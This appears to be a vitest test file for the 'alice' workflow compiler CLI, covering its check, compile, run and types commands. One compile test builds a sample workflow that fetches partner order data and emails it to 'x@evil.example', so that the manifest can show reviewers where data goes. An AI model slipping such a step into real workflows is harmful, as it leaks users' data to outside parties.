import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { root } from '../support/build.js';
import { cliWorkspace } from '../support/cli.js';
import { sarifValidator } from '../support/sarif.js';

const ws = cliWorkspace('alice-compiler-cli-');
const { alice, write } = ws;

const examples = join(root, 'examples');
const impure = join(root, 'test', 'fixtures', 'impure');


interface JsonReport {
  diagnostics: Array<{ file: string; line: number; column: number; endLine: number; endColumn: number; rule: string; severity: string; message: string; hint: string | null }>;
  files: number;
}




describe('alice check', () => {
  it('passes every example workflow (exit 0) and says how many files it checked', () => {
    // Three TypeScript workflows and their three DSL versions (.alice is always a workflow).
    const r = alice('check', examples);
    expect(r.stdout).toBe('✔ 6 files checked, no problems\n');
    expect(r.code).toBe(0);
  });

  it('fails each impure fixture with the expected rule at the expected line, and nothing else', () => {
    const files = readdirSync(impure).filter((f) => f.endsWith('.ts')).map((f) => join(impure, f));
    const r = alice('check', ...files, '--format', 'json');
    expect(r.code, r.stderr).toBe(1);
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.files).toBe(files.length);
    for (const file of files) {
      const expected = readFileSync(file, 'utf8')
        .split('\n')
        .flatMap((text, i) => [...text.matchAll(/expect: (alice\/[a-z-]+)/g)].map((m) => `${i + 1} ${m[1]}`));
      expect(expected.length, `${file} has no expect markers`).toBeGreaterThan(0);
      const found = report.diagnostics.filter((d) => d.file === file && d.rule.startsWith('alice/')).map((d) => `${d.line} ${d.rule}`);
      for (const e of expected) expect(found, `${file}`).toContain(e);
      const markedLines = new Set(expected.map((e) => e.split(' ')[0]));
      expect(found.filter((f) => !markedLines.has(f.split(' ')[0])), `${file}: diagnostics on lines without a marker`).toEqual([]);
    }
  });

  it('prints file:line:col, rule and message in text, grouped by file, with a summary', () => {
    const file = join(impure, 'wall-clock-alias.ts');
    const r = alice('check', file);
    expect(r.code).toBe(1);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines[0]).toBe(file);
    expect(lines[1]).toMatch(new RegExp(`^  ${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}:8:17  alice/no-wall-clock  .*replay`));
    expect(lines.at(-1)).toMatch(/^✖ 1 error, 0 warnings in 1 of 1 file$/);
  });

  it('writes the exact json shape, 1-based positions included', () => {
    const file = join(impure, 'wall-clock-alias.ts');
    const report = JSON.parse(alice('check', file, '--format', 'json').stdout) as JsonReport;
    expect(Object.keys(report)).toEqual(['diagnostics', 'files']);
    expect(report.diagnostics).toHaveLength(1);
    const d = report.diagnostics[0];
    expect(Object.keys(d)).toEqual(['file', 'line', 'column', 'endLine', 'endColumn', 'rule', 'severity', 'message', 'hint']);
    expect(d).toMatchObject({ file, line: 8, column: 17, endLine: 8, endColumn: 26, rule: 'alice/no-wall-clock', severity: 'error' });
    expect(d.hint).toMatch(/now\(\)/);
  });

  it('writes SARIF 2.1.0 that the official schema accepts, with the rules it ran', () => {
    const out = join(ws.dir, 'report.sarif');
    const r = alice('check', impure, '--format', 'sarif', '--output', out);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    const log = JSON.parse(readFileSync(out, 'utf8')) as { version: string; runs: Array<{ tool: { driver: { rules: Array<{ id: string }> } }; results: Array<{ ruleId: string }> }> };
    const validate = sarifValidator();
    expect(validate(log), JSON.stringify(validate.errors)).toBe(true);
    expect(log.version).toBe('2.1.0');
    const ruleIds = log.runs[0].tool.driver.rules.map((rule) => rule.id);
    expect(ruleIds).toContain('alice/no-wall-clock');
    expect(log.runs[0].results.length).toBeGreaterThan(10);
  });

  it('writes GitHub annotations', () => {
    const r = alice('check', join(impure, 'fetch-and-console.ts'), '--format', 'github');
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^::error file=.*fetch-and-console\.ts,line=4,col=\d+,endLine=4,endColumn=\d+,title=alice\/no-host-globals::fetch is a host global/m);
  });

  it('exits 2 on a usage error: a bad flag, no files, a missing file, a directory without workflows', () => {
    const empty = join(ws.dir, 'empty');
    mkdirSync(empty, { recursive: true });
    writeFileSync(join(empty, 'notes.ts'), 'export const x = 1;\n');
    const cases: Array<[string[], RegExp]> = [
      [['check', examples, '--format', 'xml'], /--format must be one of text, json, sarif, github/],
      [['check', examples, '--frobnicate'], /frobnicate/],
      [['check'], /check needs FILES_OR_GLOBS/],
      [['check', join(ws.dir, 'missing.ts')], /missing\.ts: no such file or directory/],
      [['check', empty], /holds no workflow/],
      [['check', join(ws.dir, 'nothing-*.ts')], /no workflow file .* matches/],
    ];
    for (const [args, message] of cases) {
      const r = alice(...args);
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toMatch(message);
      expect(r.stderr).not.toMatch(/\n\s+at /);
    }
  });

  it('reports a file that does not parse and a file that is not UTF-8 as diagnostics (exit 1), not crashes', () => {
    const broken = write('broken.ts', 'import { log } from "alice";\nexport default async function (input: {}) {\n  log("unclosed";\n}\n');
    const latin1 = write('latin1.ts', Buffer.concat([Buffer.from('// caf'), Buffer.from([0xe9]), Buffer.from('\nexport default async function () {}\n')]));
    const r = alice('check', broken, latin1, '--format', 'json');
    expect(r.code).toBe(1);
    expect(r.stderr).toBe('');
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.files).toBe(2);
    const parse = report.diagnostics.find((d) => d.file === broken);
    expect(parse).toMatchObject({ rule: 'ts1005', line: 3, severity: 'error' });
    const encoding = report.diagnostics.find((d) => d.file === latin1);
    expect(encoding).toMatchObject({ rule: 'alice/encoding', line: 1, column: 1 });
    expect(encoding?.message).toMatch(/not valid UTF-8 \(byte 0xe9 at offset 6\)/);
  });

  it('expands quoted globs with ** itself', () => {
    const r = alice('check', `${examples}/**/*.ts`, '--format', 'json');
    // The glob also matches the host-side catalog (examples/actions.ts) and alice.d.ts is skipped.
    const report = JSON.parse(r.stdout) as JsonReport;
    expect(report.files).toBe(4);
  });
});

describe('alice compile', () => {
  it('writes script, source map and manifest; the same source gives the same code hash', () => {
    const a = join(ws.dir, 'out-a');
    const b = join(ws.dir, 'nested', 'out-b');
    const source = join(examples, 'order-flow', 'workflow.ts');
    expect(alice('compile', source, '-o', a).code).toBe(0);
    const r = alice('compile', source, '--out', b);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/compiled .*order-flow.* code hash [0-9a-f]{12}/);
    for (const f of ['workflow.js', 'workflow.js.map', 'manifest.json']) expect(readFileSync(join(a, f), 'utf8')).toBe(readFileSync(join(b, f), 'utf8'));
    const manifest = JSON.parse(readFileSync(join(a, 'manifest.json'), 'utf8')) as Record<string, unknown>;
    expect(manifest).toMatchObject({
      name: 'order-flow',
      kind: 'user',
      language: 'ts',
      actions: ['email.send', 'inventory.release', 'inventory.reserve', 'payments.charge'],
      triggers: [{ type: 'manual' }],
    });
    expect(manifest.compilerVersion).toMatch(/^alice-ts\/\S+ typescript\/5\.9\.\d+$/);
    expect(manifest.codeHash).toMatch(/^[0-9a-f]{64}$/);
    expect(manifest.inputSchema).toMatchObject({ type: 'object', required: ['orderId', 'items'] });
    const map = JSON.parse(readFileSync(join(a, 'workflow.js.map'), 'utf8')) as { sources: string[]; sourcesContent: string[] };
    expect(map.sources).toEqual(['workflow.ts']);
    expect(map.sourcesContent[0]).toBe(readFileSync(source, 'utf8'));
    // The bundle directory runs as it is.
    const run = alice('run', a, '--store', join(ws.dir, 'compiled.db'), '--input', JSON.stringify({ orderId: 'C-1', items: [{ sku: 'book', qty: 1 }] }));
    expect(run.code, run.stderr).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ status: 'confirmed' });
  });

  it('records literal arguments and where the others come from, so a reviewer sees what is sent where', () => {
    const src = write('review/notify.ts', [
      'import { email, http } from "alice";',
      'export default async function (input: { customer: string; id: string }) {',
      '  const page = await http.fetch({ url: `https://api.partner.example/orders/${input.id}` });',
      '  await email.send({ to: "x@evil.example", subject: "Order " + input.id, text: page.body });',
      '  await email.send({ to: input.customer, subject: "Thanks", text: "Done" });',
      '}',
      '',
    ].join('\n'));
    const out = join(ws.dir, 'review-out');
    const actions = write('review/actions.mjs', [
      "import { defineAction } from '" + join(root, 'dist/runtime/index.js').replace(/\\/g, '/') + "';",
      "export const actions = [",
      "  defineAction({ name: 'http.fetch', input: { type: 'object', properties: { url: { type: 'string' } }, required: ['url'] }, output: { type: 'object', properties: { body: { type: 'string' } }, required: ['body'] }, run: () => ({ body: 'x' }) }),",
      "];",
    ].join('\n'));
    const r = alice('compile', src, '-o', out, '--actions', actions);
    expect(r.code, r.stderr).toBe(0);
    const manifest = JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8')) as { actions: string[]; arguments: Record<string, Array<{ line: number; args: Record<string, unknown> }>> };
    expect(manifest.actions).toEqual(['email.send', 'http.fetch']);
    expect(manifest.arguments['http.fetch']).toEqual([
      { line: 3, args: { url: { template: 'https://api.partner.example/orders/${…}', prefix: 'https://api.partner.example/orders/', host: 'api.partner.example', from: ['input'] } } },
    ]);
    expect(manifest.arguments['email.send']).toEqual([
      { line: 4, args: { to: { literal: 'x@evil.example' }, subject: { prefix: 'Order ', from: ['input'] }, text: { from: ['action:http.fetch'] } } },
      { line: 5, args: { to: { from: ['input'] }, subject: { literal: 'Thanks' }, text: { literal: 'Done' } } },
    ]);
  });

  it('refuses code that fails the checker: exit 1, diagnostics, nothing written', () => {
    const out = join(ws.dir, 'refused');
    const r = alice('compile', join(impure, 'wall-clock-alias.ts'), '-o', out);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/wall-clock-alias\.ts:8:17  alice\/no-wall-clock/);
    expect(r.stderr).toMatch(/never compiled or run/);
    expect(existsSync(out)).toBe(false);
  });

  it('needs -o and a .ts source', () => {
    expect(alice('compile', join(examples, 'order-flow', 'workflow.ts')).code).toBe(2);
    expect(alice('compile', join(examples, 'order-flow'), '-o', join(ws.dir, 'x')).code).toBe(2);
  });
});

describe('alice run FILE.ts', () => {
  it('compiles and runs a source in one step', () => {
    const r = alice('run', join(examples, 'order-flow', 'workflow.ts'), '--store', join(ws.dir, 'run.db'), '--input', JSON.stringify({ orderId: 'R-1', items: [{ sku: 'book', qty: 2 }] }));
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ orderId: 'R-1', status: 'confirmed' });
  });

  it('reports where a failing workflow threw and where each log line came from, in the .ts file', () => {
    const src = write('runs/boom.ts', ['import { log } from "alice";', 'export default async function (input: { n: number }) {', '  log("checking", input.n);', '  if (input.n > 2) throw new Error("too big");', '  return input.n;', '}', ''].join('\n'));
    const r = alice('run', src, '--store', join(ws.dir, 'boom.db'), '--input', '{"n":5}', '--progress');
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/log: checking 5  \(boom\.ts:3:3\)/);
    expect(r.stderr).toMatch(/failed: ALICE_WORKFLOW_ERROR: too big at boom\.ts:4:\d+ \(see alice log/);
  });

  it('refuses to run a source that fails the checker', () => {
    const r = alice('run', join(impure, 'random-in-helper.ts'), '--store', join(ws.dir, 'run.db'), '--input', '{"names":["a"]}');
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/random-in-helper\.ts:5:\d+  alice\/no-random/);
    expect(r.stderr).toMatch(/never compiled or run/);
  });
});

describe('alice types', () => {
  it('generates the declarations checked in as examples/alice.d.ts (kept up to date)', () => {
    const r = alice('types', '-o', '-');
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(readFileSync(join(examples, 'alice.d.ts'), 'utf8'));
    expect(r.stdout).toMatch(/declare module "alice"/);
    expect(r.stdout).toMatch(/readonly delete: \(args: \{/);
  });
});
